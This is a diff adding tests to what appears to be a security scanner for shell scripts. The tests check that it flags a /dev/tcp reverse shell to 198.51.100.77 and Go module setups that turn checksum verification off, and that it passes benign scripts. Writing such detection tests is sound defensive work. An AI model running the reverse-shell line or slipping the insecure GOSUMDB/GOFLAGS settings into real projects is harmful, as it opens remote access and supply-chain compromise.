@@ -678,3 +678,28 @@ def test_cat_of_named_files_does_not_read_what_a_hook_is_handed(tmp_path: Path) 
     named = messages("named", json.dumps(hook))
     assert "netrc" in named and "on stdin" not in named
     assert "on stdin" in messages("piped", json.dumps(hook).replace("cat ~/.netrc", "cat - ~/.netrc"))
+
+
+def test_redirects_after_a_list_belong_to_its_last_command_after_the_first_has_run(tmp_path: Path) -> None:
+    # the parser hangs `<&5 >&5` on the whole `a || b` list; the shell gives them to b, once a has run
+    source = "exec 5<>/dev/tcp/198.51.100.77/7001 || exit 1\nzsh -i <&5 >&5 2>&1\n"
+    together = "exec 5<>/dev/tcp/198.51.100.77/7001 || zsh -i <&5 >&5 2>&1\n"
+    for index, text in enumerate((source, together)):
+        assert ("DOWNLOAD_AND_RUN", "scripts/dbg.sh", 2 - index) in scan_errors(
+            tmp_path / str(index), {"scripts/dbg.sh": text}
+        )
+    plain = "mkdir -p out && sort data.txt > out/sorted.txt 2>&1\n"
+    assert scan_errors(tmp_path / "plain", {"scripts/dbg.sh": plain}) == set()
+
+
+def test_a_go_module_proxy_with_the_checksum_database_off_is_an_untrusted_source(tmp_path: Path) -> None:
+    unverified = "export GOPROXY=https://mods.corp-cache.invalid\ngo env -w GOSUMDB=off\ngo mod download\n"
+    expected = {("UNTRUSTED_PACKAGE_SOURCE", "scripts/deps.sh", 2)}
+    assert scan_errors(tmp_path, {"scripts/deps.sh": unverified}) == expected
+    written = "go env -w GOFLAGS=-insecure GOPROXY=mirror.example-go.invalid/mod,direct\n"
+    assert ("UNTRUSTED_PACKAGE_SOURCE", "scripts/deps.sh", 1) in scan_errors(
+        tmp_path / "written", {"scripts/deps.sh": written}
+    )
+    # a company mirror with checksums still checked, or private modules only skipping them, is normal
+    checked = "go env -w GOPROXY=https://athens.corp-cache.invalid,direct\ngo env -w GONOSUMDB=git.corp.invalid/*\n"
+    assert scan_errors(tmp_path / "checked", {"scripts/deps.sh": checked}) == set()
